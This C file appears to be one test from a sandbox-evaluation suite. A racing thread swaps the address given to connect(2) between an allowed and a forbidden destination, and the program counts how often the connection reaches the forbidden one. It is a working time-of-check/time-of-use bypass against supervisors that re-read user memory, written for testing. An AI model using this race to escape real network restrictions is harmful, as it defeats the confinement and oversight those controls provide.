/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A second thread rewrites the address while connect(2) is being decided: the allowed one is
 * checked, the forbidden one is used. Stops only a supervisor that acts on its own copy.
 * flip-send.c does the same to datagrams.
 *
 *	flip ALLOWED FORBIDDEN TRIES
 *
 * Both places of one family. Hits are counted by getpeername(2); the witness counts for itself.
 */

#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static struct place allowed, forbidden;
static struct sockaddr_storage shared; /* racy on purpose */
static atomic_bool over;

/* Word by word and volatile: the compiler must not keep the stores back. */
static void overwrite(const struct place *place)
{
	const unsigned *from = (const unsigned *)&place->address;
	volatile unsigned *to = (volatile unsigned *)&shared;

	for (size_t i = 0; i * sizeof(*from) < place->length; i++)
		to[i] = from[i];
}

static void *flipper(void *arg)
{
	while (!atomic_load_explicit(&over, memory_order_relaxed)) {
		overwrite(&forbidden);
		for (volatile int i = 0; i < 200; i++)
			;
		overwrite(&allowed);
		for (volatile int i = 0; i < 200; i++)
			;
	}
	return arg;
}

static bool peer_is(int fd, const struct place *place)
{
	struct sockaddr_storage peer = {0};
	socklen_t length = sizeof(peer);

	return getpeername(fd, (struct sockaddr *)&peer, &length) == 0 &&
	       memcmp(&peer, &place->address, place->length) == 0;
}

int main(int argc, char **argv)
{
	const struct linger now = {.l_onoff = 1};
	long tries = argc == 4 ? atol(argv[3]) : 0, good = 0, hits = 0;
	pthread_t thread;

	if (tries < 1)
		return untried("usage: flip ALLOWED FORBIDDEN TRIES");
	allowed = place_parse(argv[1]);
	forbidden = place_parse(argv[2]);
	overwrite(&allowed);
	need(pthread_create(&thread, NULL, flipper, NULL) == 0, "pthread_create");
	for (long i = 0; i < tries; i++) {
		int fd = place_socket(&allowed, SOCK_STREAM);
		need(fd >= 0, "socket");
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		if (connect(fd, (struct sockaddr *)&shared, allowed.length) == 0) {
			good++;
			hits += peer_is(fd, &forbidden);
		}
		close(fd);
	}
	atomic_store(&over, true);
	pthread_join(thread, NULL);
	if (good == 0)
		return untried("not one of %ld connections came about", tries);
	if (hits > 0)
		return succeeded("%ld of %ld reached the forbidden place", hits, tries);
	return stopped("%ld connections, none to the forbidden place", good);
}
